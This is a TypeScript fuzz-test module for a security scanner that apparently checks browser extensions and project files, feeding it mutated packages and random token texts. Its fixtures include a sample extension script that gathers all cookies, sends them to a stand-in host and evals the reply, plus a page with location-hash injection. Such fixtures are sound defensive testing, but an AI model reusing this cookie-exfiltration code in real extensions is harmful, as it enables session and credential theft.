import { readFileSync } from 'node:fs';
import fc from 'fast-check';
import { analyze } from '../../../lib/engine/analyze.ts';
import type { FileTree } from '../../../lib/engine/source.ts';
import { memoryTree } from '../../../lib/engine/sources/memory.ts';
import { packageTree } from '../../../lib/engine/sources/packageTree.ts';
import { makeZip } from '../../../lib/engine/testing/makeZip.ts';
import { RULES } from '../../../lib/engine/rules/index.ts';
import { ScanError } from '../../../lib/model/problem.ts';
import { nodeHash } from '../../../scripts/nodeHash.ts';
import { nodeInflater } from '../../../service/scan/nodeInflater.ts';
import { valueOf } from '../engine/options.ts';
import { realExtensions } from '../engine/realExtensions.ts';
import type { Part } from '../part.ts';

/** Real packages above this size would make a hundred thousand inputs take hours. */
const MOST_BYTES = 100_000;

/** Mutated bytes and made-up texts: `--inputs N` (100,000), `--seed N`. Nothing may be thrown but ScanError, nothing may hang. */
export const part: Part = {
  title: 'Engine under random inputs',
  async run(report, options) {
    const inputs = Number(valueOf(options, '--inputs') ?? 100_000);
    const seed = Number(valueOf(options, '--seed') ?? 20_261_121);
    const faults: string[] = [];
    let slowest = 0;
    const attempt = async (tree: () => Promise<FileTree> | FileTree): Promise<void> => {
      const start = performance.now();
      try {
        const analysis = await analyze(await tree(), { hash: nodeHash });
        const failed = analysis.notRun.filter((one) => one.why.startsWith('the check failed'));
        if (failed[0] !== undefined) faults.push(`${failed[0].what}: ${failed[0].why}`);
        const unread = analysis.coverage.notes.find((one) =>
          / could not be read: .*(is not (a function|iterable|defined)|Cannot read|Invalid|undefined)/.test(one.note),
        );
        if (unread !== undefined) faults.push(unread.note);
      } catch (error) {
        if (!(error instanceof ScanError))
          faults.push(error instanceof Error ? (error.stack ?? error.message) : String(error));
      }
      slowest = Math.max(slowest, performance.now() - start);
    };
    const packages = [
      ...realExtensions()
        .map(({ zip }) => readFileSync(zip))
        .filter((bytes) => bytes.length <= MOST_BYTES),
      makeZip([
        { name: 'manifest.json', content: MANIFEST },
        { name: 'bg.js', content: SCRIPT },
        { name: 'p.html', content: PAGE },
      ]),
    ];
    const small = packages.at(-1) ?? new Uint8Array();
    const edits = fc.array(fc.tuple(fc.nat(), fc.nat(255)), { minLength: 1, maxLength: 20 });
    const settings = { seed, numRuns: Math.max(1, Math.floor(inputs / 4)) };
    const mutated = (
      bytes: Uint8Array,
      changes: readonly (readonly [number, number])[],
      length: number,
    ): Uint8Array => {
      const copy = bytes.slice(0, length % 5 === 0 ? length % bytes.length : bytes.length);
      for (const [at, value] of changes) if (copy.length > 0) copy[at % copy.length] = value;
      return copy;
    };
    const open = (bytes: Uint8Array): Promise<FileTree> =>
      packageTree(bytes, { inflater: nodeInflater, hash: nodeHash });

    await fc.assert(
      fc.asyncProperty(edits, fc.nat(), async (changes, length) =>
        attempt(() => open(mutated(small, changes, length))),
      ),
      settings,
    );
    // Real packages are slower: a tenth of the share, the rest goes to texts.
    const real = Math.max(1, Math.floor(settings.numRuns / 10));
    await fc.assert(
      fc.asyncProperty(fc.nat(packages.length - 1), edits, fc.nat(), async (which, changes, length) =>
        attempt(() => open(mutated(packages[which] ?? small, changes, length))),
      ),
      { ...settings, numRuns: real },
    );
    const path = fc.constantFrom(
      'manifest.json',
      'bg.js',
      'p.html',
      'package.json',
      'package-lock.json',
      '.github/workflows/ci.yml',
      'Dockerfile',
      'main.tf',
      'setup.py',
      'requirements.txt',
      'LICENSE',
      '_locales/en/messages.json',
      'go.sum',
      'pom.xml',
      'k8s.yaml',
      '.gitlab-ci.yml',
    );
    const tokens = fc.array(fc.constantFrom(...TOKENS), { maxLength: 60 }).map((parts) => parts.join(''));
    const text = fc.oneof({ weight: 3, arbitrary: tokens }, fc.string({ unit: 'binary', maxLength: 200 }), fc.json());
    await fc.assert(
      fc.asyncProperty(fc.dictionary(path, text, { maxKeys: 4 }), fc.boolean(), async (files, extension) =>
        attempt(() => memoryTree(extension ? { 'manifest.json': MANIFEST, ...files } : files)),
      ),
      { ...settings, numRuns: inputs - settings.numRuns * 2 - real },
    );
    const broken = [MANIFEST, SCRIPT, PAGE];
    await fc.assert(
      fc.asyncProperty(edits, fc.nat(), async (changes, length) => {
        const [manifest, script, page] = broken.map((one) => mutated(new TextEncoder().encode(one), changes, length));
        await attempt(() =>
          memoryTree({ 'manifest.json': manifest ?? '', 'bg.js': script ?? '', 'p.html': page ?? '' }),
        );
      }),
      settings,
    );
    const kinds = [...new Set(faults.map((fault) => fault.split('\n', 1)[0] ?? ''))];
    for (const kind of kinds.slice(0, 20))
      report({ what: `  ${kind.slice(0, 150)}`, value: faults.filter((fault) => fault.startsWith(kind)).length });
    report({
      what: `faults in ${inputs} inputs against ${RULES.length} rules`,
      value: faults.length,
      goal: '0',
      met: faults.length === 0,
    });
    report({ what: 'slowest input', value: slowest / 1000, unit: 's', goal: 'at most 2', met: slowest <= 2000 });
  },
};

const MANIFEST =
  '{"manifest_version":3,"name":"Fuzz","version":"1","permissions":["cookies","tabs"],"host_permissions":["<all_urls>"],"background":{"service_worker":"bg.js"},"content_scripts":[{"matches":["https://*/*"],"js":["bg.js"]}],"content_security_policy":{"extension_pages":"script-src \'self\'"}}';
const SCRIPT =
  'chrome.runtime.onMessageExternal.addListener(async (m, s, r) => { const { a, ...b } = m; const c = await chrome.cookies.getAll({ domain: a?.url ?? `x${b}` }); fetch("https://x.example/?" + encodeURIComponent(JSON.stringify(c))).then((t) => t.text()).then(eval); class Q extends P { static #x = 1; get y() { return Q.#x; } } for (const [k, v] of Object.entries(m)) document.body.innerHTML += k + v; });';
const PAGE =
  '<!doctype html><html><head><script src="bg.js"></script><script>document.write(location.hash)</script></head><body onload="x()"><form action="http://y.example"><input type=password></form></body></html>';
const TOKENS = [
  'function ',
  'async ',
  'await ',
  '=>',
  '(',
  ')',
  '{',
  '}',
  '[',
  ']',
  ';',
  ',',
  '.',
  '...',
  '`',
  '${',
  '"',
  "'",
  '/',
  '\\',
  '\n',
  '//',
  '/*',
  '*/',
  ' = ',
  'chrome.',
  'cookies.getAll',
  'eval',
  'innerHTML',
  'document',
  'window.addEventListener("message",',
  'fetch',
  'import ',
  'from ',
  'export ',
  'class ',
  'new Function',
  'x',
  'y',
  '0x',
  '1e',
  '<script',
  ' src=',
  '>',
  '</script>',
  '<!--',
  '"manifest_version"',
  ':',
  'null',
  '{"a":',
  '\u2028',
  '\ud800',
  '\u202e',
  '\u0000',
  'key',
  ' on:',
  '\n  - ',
  'run: |\n',
  'FROM ',
  'RUN ',
  'resource "a" "b" {',
  'eval(',
  'exec(',
  'os.system(',
  'def f():\n',
  '    ',
  'requests==1',
  '\t',
  '@',
  '#',
  '%',
  '&',
  'https://',
  'data:',
  'atob(',
];
